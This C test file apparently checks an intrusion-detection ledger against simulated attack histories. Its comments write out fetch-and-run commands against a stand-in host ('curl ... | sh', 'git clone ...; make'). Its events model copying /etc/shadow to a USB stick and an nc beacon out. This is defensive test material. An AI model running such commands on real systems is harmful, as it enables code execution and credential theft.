/* Intrusions that came by what somebody here fetched and ran, on small histories made by hand. */
#include "ledger.h"
#include "loss/loss.h"
#include "query_tests.h"
#include "test.h"

enum {
    EVIL = 1,
    LOGIN,
    SSHD,
    BASH,
    CURL,
    PIPE,
    SH,
    TOOL,
    CAT,
    HASHES,
    STICK,
    BEACON,
    GIT,
    HELPER,
    MAKEFILE,
    MAKE,
    CRON,
    TABLE,
    BACKUP,
    SCRIPT
};

static const char ASSETS[] = "assets:\n"
                             "  - {host: web01, path: \"/etc/shadow\", name: hashes}\n"
                             "  - {path: \"/media/**\", name: sticks, classification: exit}\n";

static void entities(struct world *w)
{
    world_connection(w, EVIL, BTR_ENTITY_OUTSIDE, "10.0.0.1", "4000", "10.9.9.9", "80");
    world_connection(w, BEACON, BTR_ENTITY_OUTSIDE, "10.0.0.1", "4001", "10.9.9.9", "443");
    world_process(w, SSHD, "web01", "/usr/sbin/sshd", "sshd", NULL);
    world_process(w, BASH, "web01", "/bin/bash", "bash", NULL);
    world_process(w, CURL, "web01", "/usr/bin/curl", "curl http://10.9.9.9/x", NULL);
    world_process(w, SH, "web01", "/bin/dash", "sh", NULL);
    world_process(w, TOOL, "web01", "/usr/bin/nc", "nc", NULL);
    world_process(w, CAT, "web01", "/bin/cat", "cat", NULL);
    world_process(w, GIT, "web01", "/usr/bin/git", "git clone", NULL);
    world_process(w, HELPER, "web01", "/usr/lib/git-core/git-remote-http", "git remote-http", NULL);
    world_process(w, MAKE, "web01", "/usr/bin/make", "make", NULL);
    world_process(w, CRON, "web01", "/usr/sbin/cron", "cron", NULL);
    world_process(w, BACKUP, "web01", "/bin/tar", "tar", NULL);
    world_note(w, PIPE, BTR_KIND_CHANNEL, 0, "web01", 0);
    world_file(w, HASHES, "web01", "/etc/shadow");
    world_file(w, STICK, "web01", "/media/stick/x");
    world_file(w, MAKEFILE, "web01", "/home/dev/p/Makefile");
    world_file(w, TABLE, "web01", "/etc/crontab");
}

/* By a process: what it starts steals, and then somebody else of it is the alert. */
static void steals(struct world *w, uint64_t process)
{
    world_does(w, process, BTR_OP_FORK, CAT);
    world_does(w, CAT, BTR_OP_READ, HASHES)->bytes = 900;
    world_does(w, CAT, BTR_OP_CREATE, STICK);
    world_does(w, CAT, BTR_OP_WRITE, STICK)->bytes = 900;
    world_does(w, process, BTR_OP_FORK, TOOL);
    world_does(w, TOOL, BTR_OP_CONNECT, BEACON);
}

typedef void history(struct world *w);

static void expect(history *make, enum loss_verdict verdict)
{
    struct ledger l;
    struct world w;
    world_open(&w);
    entities(&w);
    make(&w);
    world_publish(&w, "made.log");
    ledger_make(&l, &w, TOOL, w.now_ns, ASSETS);
    assert_int_equal(l.loss->rows[0].verdict, verdict);
    ledger_free(&l);
    world_close(&w);
}

/* curl http://10.9.9.9/x | sh */
static void fetched_into_a_shell(struct world *w)
{
    world_does(w, BASH, BTR_OP_FORK, CURL);
    world_does(w, BASH, BTR_OP_FORK, SH);
    world_does(w, CURL, BTR_OP_CONNECT, EVIL);
    world_does(w, CURL, BTR_OP_RECV, EVIL)->bytes = 4000;
    world_does(w, CURL, BTR_OP_WRITE, PIPE)->bytes = 4000;
    world_does(w, SH, BTR_OP_READ, PIPE)->bytes = 4000;
    steals(w, SH);
}

/* git clone http://10.9.9.9/p; make */
static void fetched_and_built(struct world *w)
{
    world_does(w, BASH, BTR_OP_FORK, GIT);
    world_does(w, GIT, BTR_OP_FORK, HELPER);
    world_does(w, HELPER, BTR_OP_CONNECT, EVIL);
    world_does(w, HELPER, BTR_OP_RECV, EVIL)->bytes = 4000;
    world_does(w, HELPER, BTR_OP_WRITE, PIPE)->bytes = 4000;
    world_does(w, GIT, BTR_OP_READ, PIPE)->bytes = 4000;
    world_does(w, GIT, BTR_OP_CREATE, MAKEFILE);
    world_does(w, GIT, BTR_OP_WRITE, MAKEFILE)->bytes = 4000;
    world_does(w, BASH, BTR_OP_FORK, MAKE);
    world_does(w, MAKE, BTR_OP_READ, MAKEFILE)->bytes = 4000;
    steals(w, MAKE);
}

static void what_was_fetched_and_run_is_the_intrusion(void **state)
{
    (void)state;
    expect(fetched_into_a_shell, LOSS_LOST);
    expect(fetched_and_built, LOSS_LOST);
}

int loss_through_tests(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(what_was_fetched_and_run_is_the_intrusion),
    };
    return cmocka_run_group_tests(tests, NULL, NULL);
}
